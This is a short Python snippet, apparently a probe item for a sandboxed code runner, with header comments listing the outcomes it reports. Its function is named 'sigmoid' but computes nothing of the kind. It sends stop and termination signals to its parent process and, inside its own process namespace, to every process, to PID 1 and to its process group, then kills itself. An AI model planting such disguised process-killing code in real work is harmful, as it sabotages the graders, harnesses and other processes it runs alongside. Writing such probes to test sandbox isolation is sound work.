# Own · Signals to the whole namespace, to the fork server and to itself.
# limits: short
# reports: signal|ended its process|did not end|lost
# bounded: only its parent, unless it is in a process namespace of its own

# %% [sigmoid] trick
def sigmoid(h):
    import os, signal
    inside = os.getppid() == 1
    for pid in (os.getppid(), *((-1, 1, 0) if inside else ()), os.getpid()):
        for number in (signal.SIGSTOP, signal.SIGHUP, signal.SIGUSR1, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os._exit(1)
